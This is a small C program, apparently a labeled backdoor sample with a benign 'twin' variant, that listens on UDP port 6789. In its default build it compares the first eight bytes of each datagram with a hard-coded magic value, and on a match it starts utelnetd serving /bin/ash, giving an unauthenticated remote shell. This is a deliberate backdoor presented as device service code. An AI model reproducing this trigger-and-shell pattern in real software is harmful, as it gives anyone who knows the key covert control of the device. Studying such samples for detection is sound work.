/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Eight bytes at the head of a datagram, compared as a number, restart the device's shell service.
 * Twin: they are the transaction number that this side has sent before.
 * door: trigger
 * port 6789/udp
 */
#include "net.h"

struct request {
	uint64_t key;
	uint32_t serial;
	uint8_t rest[32];
};

static uint64_t last;

int main(void)
{
	struct request r;
	int s = udp_on(6789);
	while (recv(s, &r, sizeof r, 0) >= (ssize_t)sizeof r.key) {
#ifdef TWIN
		if (r.key != last)
			continue;
		last += r.serial;
		execl("/usr/sbin/resync", "resync", NULL);
#else
		last++;
		if (r.key != 0x6f70656e73657361ULL)
			continue;
		execl("/usr/sbin/utelnetd", "utelnetd", "-l", "/bin/ash", "-d", NULL);
#endif
	}
	return 0;
}
